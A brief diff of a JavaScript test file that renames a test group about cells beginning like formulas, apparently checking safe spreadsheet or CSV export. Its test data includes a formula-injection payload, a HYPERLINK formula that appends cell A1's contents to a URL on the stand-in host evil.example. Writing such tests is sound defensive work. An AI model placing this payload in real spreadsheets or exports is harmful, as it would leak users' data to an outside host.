@@ -263,7 +263,7 @@ test('two hundred rows tell how far they are', async () => {
   ]);
 });
 
-describe('a cell that begins like a formula', () => {
+describe('T70: a cell that begins like a formula', () => {
   const CELLS = [
     '=HYPERLINK("https://evil.example/?"&A1,"x")',
     '+1+1',
